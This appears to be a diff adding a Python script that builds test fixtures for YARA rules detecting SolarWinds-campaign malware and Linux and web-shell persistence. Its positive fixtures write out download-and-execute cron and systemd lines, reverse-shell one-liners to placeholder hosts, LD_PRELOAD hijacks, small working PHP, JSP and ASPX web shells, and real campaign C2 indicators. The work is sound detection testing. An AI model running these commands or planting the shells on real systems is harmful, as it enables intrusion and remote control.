@@ -1,0 +1,385 @@
+#!/usr/bin/env python3
+"""Build harmless test fixtures for the bundled YARA rules (yara-rules/).
+
+Usage: yara_fixtures.py OUTDIR
+
+Writes, under OUTDIR:
+  positive/<name>   files that must trigger a given rule
+  negative/<name>   files that must trigger no rule at all
+  manifest.tsv      one line per positive fixture: "<name>\t<expected rule>"
+
+Nothing here is malware.  The "PE" files are an MZ header and a PE
+signature followed by the strings and constants a rule looks for; the
+scripts contain documentation-range addresses (RFC 5737) and .invalid host
+names; the web shells run nothing.  Encoded values are computed here, at
+test time, from the plain text (python zlib raw DEFLATE, FNV-1a 64), so the
+hex and base64 written in the rules are checked against an independent
+computation.  Standard library only.
+"""
+
+import base64
+import hashlib
+import os
+import struct
+import sys
+import zlib
+
+FNV_OFFSET = 0xCBF29CE484222325
+FNV_PRIME = 0x100000001B3
+SUNBURST_XOR = 6605813339339102567
+MASK64 = (1 << 64) - 1
+
+SOLARWINDS_SERIAL = bytes.fromhex("0fe973752022a606adf2a36e345dc0ed")
+
+
+def deflate_b64(text):
+    """base64(raw DEFLATE(text)), as SUNBURST's ZipHelper stores literals."""
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    data = c.compress(text.encode("ascii")) + c.flush()
+    return base64.b64encode(data).decode("ascii")
+
+
+def sunburst_hash(name):
+    """FNV-1a 64 of the lowercase name, then XOR with SUNBURST's key."""
+    h = FNV_OFFSET
+    for b in name.lower().encode("ascii"):
+        h ^= b
+        h = (h * FNV_PRIME) & MASK64
+    return h ^ SUNBURST_XOR
+
+
+def utf16(text):
+    return text.encode("utf-16-le")
+
+
+def us_heap(*texts):
+    """Strings laid out like the .NET #US heap: length, UTF-16LE, flag."""
+    out = bytearray()
+    for t in texts:
+        raw = utf16(t)
+        out.append(len(raw) + 1)
+        out += raw
+        out.append(0)
+    return bytes(out)
+
+
+def strings_heap(*names):
+    """Names laid out like the .NET #Strings heap: NUL-terminated ASCII."""
+    return b"\x00" + b"\x00".join(n.encode("ascii") for n in names) + b"\x00"
+
+
+def pe_file(*parts):
+    """An MZ header, e_lfanew -> "PE\\0\\0", a COFF header and the parts."""
+    dos = bytearray(0x80)
+    dos[0:2] = b"MZ"
+    dos[0x40:0x40 + 39] = b"This program cannot be run in DOS mode."
+    struct.pack_into("<I", dos, 0x3C, 0x80)
+    coff = struct.pack("<HHIIIHH", 0x014C, 0, 0x5F000000, 0, 0, 0xE0, 0x2102)
+    opt = bytearray(0xE0)
+    struct.pack_into("<H", opt, 0, 0x010B)
+    body = b"\x00" * 64 + b"BSJB".ljust(16, b"\x00") + b"v4.0.30319\x00\x00"
+    for p in parts:
+        body += p + b"\x00" * 16
+    return bytes(dos) + b"PE\x00\x00" + coff + bytes(opt) + body
+
+
+def der_len(n):
+    if n < 0x80:
+        return bytes([n])
+    if n < 0x100:
+        return b"\x81" + bytes([n])
+    return b"\x82" + struct.pack(">H", n)
+
+
+def der(tag, content):
+    return bytes([tag]) + der_len(len(content)) + content
+
+
+def fake_certificate():
+    """A DER X.509 shape with the SolarWinds serial and subject.
+
+    Not a valid certificate (no real key, no real signature): enough for a
+    byte-level rule, harmless for everything else.
+    """
+    name = der(0x30, der(0x31, der(0x30, der(0x06, bytes.fromhex("550403"))
+                                   + der(0x0C, b"Solarwinds Worldwide, LLC"))))
+    issuer = der(0x30, der(0x31, der(0x30, der(0x06, bytes.fromhex("550403"))
+                                     + der(0x0C, b"Symantec Class 3 SHA256 Code Signing CA"))))
+    validity = der(0x30, der(0x17, b"200121000000Z") + der(0x17, b"230120235959Z"))
+    algo = der(0x30, der(0x06, bytes.fromhex("2a864886f70d01010b")) + b"\x05\x00")
+    spki = der(0x30, algo + der(0x03, b"\x00" + b"\x00" * 140))
+    tbs = der(0x30, der(0xA0, der(0x02, b"\x02"))
+              + der(0x02, SOLARWINDS_SERIAL) + algo + issuer + validity
+              + name + spki)
+    # Pad to force the two-byte long form (30 82 ..) used by real certs.
+    sig = der(0x03, b"\x00" + b"\x5a" * 256)
+    return der(0x30, tbs + algo + sig)
+
+
+def positives():
+    """Yield (file name, expected rule, bytes)."""
+    # --- SUNBURST -------------------------------------------------------
+    yield ("sunburst_names.dll", "IRK_SUNBURST_DotNet_Names", pe_file(
+        strings_heap("<Module>", "SolarWinds.Orion.Core.BusinessLayer",
+                     "OrionImprovementBusinessLayer", "Initialize",
+                     "ExecuteEngine", "ParseServiceResponse", "RunTask",
+                     "CreateUploadRequest", "GetOrCreateUserID", "ZipHelper",
+                     "CryptoHelper", "System.IO.Compression",
+                     "DeflateStream")))
+
+    encoded = [deflate_b64(s) for s in (
+        "ReportWatcherRetry", "ReportWatcherPostpone", "avsvmcloud.com",
+        "appsync-api", "eu-west-1", "us-west-2", "us-east-1", "us-east-2",
+        "583da945-62af-10e8-4902-a8f205c72b2e",
+        "ph2eifo3n5utg1j8d94qrvbmk0sal76c",
+        "rq3gsalt6u1iyfzop572d49bnx8cvmkewhj")]
+    yield ("sunburst_deflate_strings.dll",
+           "IRK_SUNBURST_Deflate_Base64_Strings",
+           pe_file(strings_heap("Unzip", "Zip"), us_heap(*encoded)))
+
+    il = bytearray()
+    il += b"\x21" + struct.pack("<Q", SUNBURST_XOR) + b"\x61\x2a"
+    for name in ("solarwinds.businesslayerhost", "windefend", "sysmon",
+                 "dnspy", "tanium", "windbg"):
+        il += b"\x21" + struct.pack("<Q", sunburst_hash(name)) + b"\x2e\x05"
+    yield ("sunburst_fnv_blocklist.dll", "IRK_SUNBURST_FNV1a_XOR_Blocklist",
+           pe_file(bytes(il)))
+
+    yield ("sunburst_dns_query.log", "IRK_SUNBURST_C2_Hostname", (
+        "2020-06-13T09:20:41Z query: 6a57jk2ba1d9keg15cbg.appsync-api.eu-west-1."
+        "avsvmcloud.com IN A +\n"
+        "2020-06-20T02:54:06Z query: ihvpgv9psvq02ffo77et.appsync-api.us-east-2."
+        "avsvmcloud.com IN A +\n").encode())
+
+    yield ("sunburst_decompiled.cs", "IRK_SUNBURST_Plain_Vocabulary", (
+        "namespace SolarWinds.Orion.Core.BusinessLayer {\n"
+        "  internal class OrionImprovementBusinessLayer {\n"
+        "    static readonly string appId = "
+        "\"583da945-62af-10e8-4902-a8f205c72b2e\";\n"
+        "    const string alphabet = \"ph2eifo3n5utg1j8d94qrvbmk0sal76c\";\n"
+        "    const string subst = \"rq3gsalt6u1iyfzop572d49bnx8cvmkewhj\";\n"
+        "  }\n}\n").encode())
+
+    yield ("sysmon_pipe_event.xml", "IRK_SUNBURST_NamedPipe_GUID", (
+        "<Event><System><EventID>17</EventID></System><EventData>"
+        "<Data Name=\"PipeName\">\\583da945-62af-10e8-4902-a8f205c72b2e</Data>"
+        "<Data Name=\"Image\">C:\\Program Files (x86)\\SolarWinds\\Orion\\"
+        "SolarWinds.BusinessLayerHost.exe</Data></EventData></Event>\n"
+        ).encode())
+
+    # --- TEARDROP / RAINDROP --------------------------------------------
+    yield ("teardrop_loader.dll", "IRK_TEARDROP_Loader_Strings", pe_file(
+        b"gracious_truth.jpg\x00", b"SOFTWARE\\Microsoft\\CTF\x00",
+        strings_heap("ServiceMain", "CreateThread", "ReadFile")))
+
+    reg = ("\ufeffWindows Registry Editor Version 5.00\r\n\r\n"
+           "[HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\"
+           "NetSetupSvc\\Parameters]\r\n"
+           "\"ServiceDll\"=\"C:\\\\Windows\\\\SysWOW64\\\\netsetupsvc.dll\"\r\n")
+    yield ("teardrop_service.reg", "IRK_TEARDROP_Artifact_Reference",
+           reg.encode("utf-16-le"))
+
+    yield ("raindrop_7zip.dll", "IRK_RAINDROP_7Zip_Masquerade", pe_file(
+        b"\x007-zip.dll\x00", strings_heap(
+            "DllCanUnloadNow", "DllGetClassObject", "DllRegisterServer",
+            "DllUnregisterServer", "SetCodecs")))
+
+    # --- SUPERNOVA -------------------------------------------------------
+    yield ("supernova_logoimagehandler.dll", "IRK_SUPERNOVA_WebShell_DLL",
+           pe_file(strings_heap(
+               "App_Web_logoimagehandler.ashx.b6031896", "LogoImageHandler",
+               "ProcessRequest", "DynamicRun", "CSharpCodeProvider",
+               "CompileAssemblyFromSource", "CompilerParameters"),
+               us_heap("codes", "clazz", "method", "args", "logo")))
+
+    yield ("supernova_handler.ashx", "IRK_SUPERNOVA_Source", (
+        "<%@ WebHandler Language=\"C#\" Class=\"LogoImageHandler\" %>\n"
+        "// irkit test fixture: shape of the SUPERNOVA handler, does nothing\n"
+        "public void ProcessRequest(HttpContext context) {\n"
+        "  string codes = context.Request[\"codes\"];\n"
+        "  string clazz = context.Request[\"clazz\"];\n"
+        "  string method = context.Request[\"method\"];\n"
+        "  string[] args = context.Request[\"args\"].Split('\\n');\n"
+        "  // DynamicRun(codes, clazz, method, args) would call\n"
+        "  // provider.CompileAssemblyFromSource(parameters, codes);\n"
+        "}\n").encode())
+
+    # --- network infrastructure -----------------------------------------
+    yield ("proxy_sunburst_cname.log", "IRK_SUNBURST_Stage2_C2_Domains", (
+        "1592039641.000 120 10.0.0.5 TCP_MISS/200 512 GET "
+        "https://freescanonline.com/swip/upd/SolarWinds.CortexPlugin.xml - "
+        "DIRECT/54.193.127.66 text/xml\n").encode())
+    yield ("proxy_beacon.log", "IRK_BEACON_SolarWinds_Campaign_Domains", (
+        "1584010140.000 95 10.0.0.7 TCP_TUNNEL/200 3141 CONNECT "
+        "databasegalore.com:443 - HIER_DIRECT/192.0.2.1 -\n").encode())
+    yield ("firewall_c2_ip.log", "IRK_SolarWinds_Campaign_C2_IPs", (
+        "2020-10-01T18:45:00Z ALLOW tcp 10.0.0.9:51515 -> 5.252.177.25:443\n"
+        ).encode())
+
+    # --- certificate -----------------------------------------------------
+    cert = fake_certificate()
+    yield ("solarwinds_signing_cert.der", "IRK_SolarWinds_CodeSign_Cert_DER",
+           cert)
+    yield ("orion_signed.dll", "IRK_SolarWinds_CodeSign_Cert_Signed_PE",
+           pe_file(strings_heap("SolarWinds.Orion.Core.BusinessLayer"),
+                   b"\x00\x02\x02\x00" + cert))
+
+    # --- Linux persistence ----------------------------------------------
+    yield ("crontab_download", "IRK_Linux_Cron_Download_Execute", (
+        "SHELL=/bin/sh\n"
+        "*/10 * * * * root curl -fsSL http://203.0.113.7/u.sh | sh\n").encode())
+    yield ("crontab_reboot", "IRK_Linux_Cron_Download_Execute", (
+        "@reboot wget -q -O- http://198.51.100.20/k | bash >/dev/null 2>&1\n"
+        ).encode())
+    blob = base64.b64encode(b"echo irkit-fixture-harmless").decode()
+    yield ("crontab_base64", "IRK_Linux_Cron_Download_Execute", (
+        "0 * * * * echo %s | base64 -d | sh\n" % blob).encode())
+    yield ("dbus-helper.service", "IRK_Linux_Systemd_Unit_Download_Execute", (
+        "[Unit]\nDescription=D-Bus helper\n\n[Service]\nType=simple\n"
+        "ExecStart=/bin/sh -c 'curl -s http://198.51.100.9/p | bash'\n"
+        "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n").encode())
+    yield ("install.sh", "IRK_Linux_Script_Download_Pipe_Shell", (
+        "#!/bin/sh\nset -e\n"
+        "wget -qO- https://get.example.invalid/agent.sh | sudo bash\n"
+        ).encode())
+    yield ("run-sub.sh", "IRK_Linux_Script_Download_Pipe_Shell", (
+        "#!/bin/bash\n"
+        "bash -c \"$(curl -fsSL https://get.example.invalid/x.sh)\"\n").encode())
+    yield ("decode.sh", "IRK_Linux_Base64_Decode_To_Shell", (
+        "#!/bin/sh\necho %s | base64 -d | bash\n" % blob).encode())
+    yield ("revshell_devtcp.sh", "IRK_Linux_Reverse_Shell_DevTcp", (
+        "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n").encode())
+    yield ("revshell_exec_fd.sh", "IRK_Linux_Reverse_Shell_DevTcp", (
+        "exec 5<>/dev/tcp/attacker.example.invalid/443\n"
+        "cat <&5 | while read line; do $line 2>&5 >&5; done\n").encode())
+    yield ("revshell_nc.sh", "IRK_Linux_Reverse_Shell_Tools", (
+        "#!/bin/sh\nnc -e /bin/sh 192.0.2.10 4444\n").encode())
+    yield ("revshell_socat.sh", "IRK_Linux_Reverse_Shell_Tools", (
+        "socat tcp-connect:192.0.2.10:4444 exec:'bash -li',pty,stderr\n"
+        ).encode())
+    yield ("revshell_python.sh", "IRK_Linux_Reverse_Shell_Tools", (
+        "python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,"
+        "socket.SOCK_STREAM);s.connect((\"192.0.2.10\",4444));"
+        "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'\n").encode())
+    yield ("preload_install.sh", "IRK_Linux_LD_Preload_Hijack", (
+        "#!/bin/sh\ncp libx.so /usr/lib/.cache/libx.so\n"
+        "echo /usr/lib/.cache/libx.so > /etc/ld.so.preload\n").encode())
+    yield ("environment", "IRK_Linux_LD_Preload_Hijack", (
+        "PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\"\n"
+        "LD_PRELOAD=/dev/shm/.x/libhide.so\n").encode())
+    yield ("ld.so.preload", "IRK_Linux_LD_Preload_File_Suspicious_Path",
+           b"/dev/shm/.x/libhide.so\n")
+
+    # --- web shells ------------------------------------------------------
+    yield ("cmd.php", "IRK_WebShell_PHP_Request_Exec",
+           b"<?php if (isset($_GET['c'])) { system($_GET['c']); } ?>\n")
+    yield ("chopper.php", "IRK_WebShell_PHP_Request_Exec",
+           b"<?php @eval($_POST['irkit']);?>\n")
+    harmless = ("echo 'irkit fixture';" + "".join(
+        hashlib.sha256(str(i).encode()).hexdigest() for i in range(12)))
+    c = zlib.compressobj(9, zlib.DEFLATED, -15)
+    packed = base64.b64encode(c.compress(harmless.encode()) + c.flush())
+    yield ("obfuscated.php", "IRK_WebShell_PHP_Obfuscated_Eval",
+           b"<?php eval(gzinflate(base64_decode('" + packed + b"'))); ?>\n")
+    yield ("cmd.jsp", "IRK_WebShell_JSP_Runtime_Exec", (
+        "<%@ page import=\"java.io.*\" %>\n<%\n"
+        "Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\"));\n"
+        "InputStream in = p.getInputStream();\n%>\n").encode())
+    yield ("chopper.aspx", "IRK_WebShell_ASPX_Request_Exec",
+           b'<%@ Page Language="Jscript"%><%eval(Request.Item["irkit"],"unsafe");%>\n')
+    yield ("exec.aspx", "IRK_WebShell_ASPX_Request_Exec", (
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n"
+        "void Page_Load(object s, EventArgs e) {\n"
+        "  var psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]);\n"
+        "  Process.Start(psi);\n}\n</script>\n").encode())
+
+
+def negatives():
+    """Yield (file name, bytes) that no rule may match."""
+    yield ("solarwinds_orion_manual.txt", (
+        "SolarWinds Orion Platform Administrator Guide\n\n"
+        "The SolarWinds Orion Platform is the common backbone for Network "
+        "Performance Monitor, Server & Application Monitor and other Orion "
+        "modules.  The Orion Business Layer service hosts "
+        "SolarWinds.Orion.Core.BusinessLayer.dll and runs polling jobs; the "
+        "Orion Improvement Program sends anonymous usage statistics to "
+        "SolarWinds if you opt in.  Install hotfixes from the Customer "
+        "Portal and keep the Orion Web Console behind your firewall.\n"
+        ).encode())
+    yield ("SolarWinds.Orion.Core.BusinessLayer.dll.config", (
+        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n"
+        "  <appSettings>\n"
+        "    <add key=\"ReportWatcherRetry\" value=\"4\" />\n"
+        "    <add key=\"ReportWatcherPostpone\" value=\"60\" />\n"
+        "    <add key=\"OrionServerName\" value=\"orion01.corp.example\" />\n"
+        "    <add key=\"BusinessLayerPort\" value=\"17777\" />\n"
+        "  </appSettings>\n"
+        "  <!-- SolarWinds Orion Core Business Layer, Orion Platform 2020.2 -->\n"
+        "</configuration>\n").encode())
+    yield ("ordinary_dotnet.dll", pe_file(
+        strings_heap("<Module>", "Contoso.Scheduler", "TaskRunner",
+                     "RunTask", "ExecuteEngine", "ParseServiceResponse",
+                     "ZipHelper", "System.IO.Compression", "DeflateStream",
+                     "HttpWebRequest"),
+        us_heap(deflate_b64("Hello from the scheduler"),
+                deflate_b64("https://api.example.org/v1/jobs"),
+                "codes", "method", "args")))
+    yield ("7zip_shell_extension.dll", pe_file(
+        b"\x007-zip.dll\x00", strings_heap(
+            "DllCanUnloadNow", "DllGetClassObject", "DllRegisterServer",
+            "DllUnregisterServer"),
+        utf16("Igor Pavlov"), utf16("7-Zip Shell Extension")))
+    yield ("backup.cron", (
+        "# m h dom mon dow user command\n"
+        "0 3 * * * root /usr/local/sbin/backup.sh >/dev/null 2>&1\n"
+        "*/5 * * * * nobody curl -fsS -o /var/lib/status/status.json "
+        "https://status.example.org/api\n").encode())
+    yield ("nginx.service", (
+        "[Unit]\nDescription=A high performance web server\n\n[Service]\n"
+        "Type=forking\nExecStartPre=/usr/sbin/nginx -t -q\n"
+        "ExecStart=/usr/sbin/nginx\nExecReload=/usr/sbin/nginx -s reload\n"
+        "\n[Install]\nWantedBy=multi-user.target\n").encode())
+    yield ("tcp_check.sh", (
+        "#!/bin/bash\n# health check without external tools\n"
+        "exec 3<>/dev/tcp/$HOST/$PORT || exit 1\n"
+        "curl -fsSL https://example.org/release.tgz -o release.tgz\n"
+        "echo \"$payload\" | base64 -d > blob.bin\n").encode())
+    yield ("index.php",
+           b"<?php echo htmlspecialchars($_GET['q'] ?? '', ENT_QUOTES); ?>\n")
+    yield ("hello.jsp", (
+        "<% String n = request.getParameter(\"name\"); %>\n"
+        "<p>Hello <%= n %></p>\n").encode())
+    yield ("default.aspx", (
+        "<%@ Page Language=\"C#\" %>\n<% Response.Write(Server.HtmlEncode("
+        "Request.QueryString[\"q\"])); %>\n").encode())
+    yield ("ld.so.preload", b"/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")
+    yield ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00"
+           + bytes(range(256)) * 4 + b"\xff\xd9")
+
+
+def main(argv):
+    if len(argv) != 2:
+        sys.stderr.write("usage: yara_fixtures.py OUTDIR\n")
+        return 2
+    out = argv[1]
+    pos = os.path.join(out, "positive")
+    neg = os.path.join(out, "negative")
+    os.makedirs(pos, exist_ok=True)
+    os.makedirs(neg, exist_ok=True)
+    seen = set()
+    with open(os.path.join(out, "manifest.tsv"), "w") as manifest:
+        for name, rule, data in positives():
+            if name in seen:
+                raise SystemExit("duplicate fixture name '%s'" % name)
+            seen.add(name)
+            with open(os.path.join(pos, name), "wb") as f:
+                f.write(data)
+            manifest.write("%s\t%s\n" % (name, rule))
+    for name, data in negatives():
+        with open(os.path.join(neg, name), "wb") as f:
+            f.write(data)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main(sys.argv))
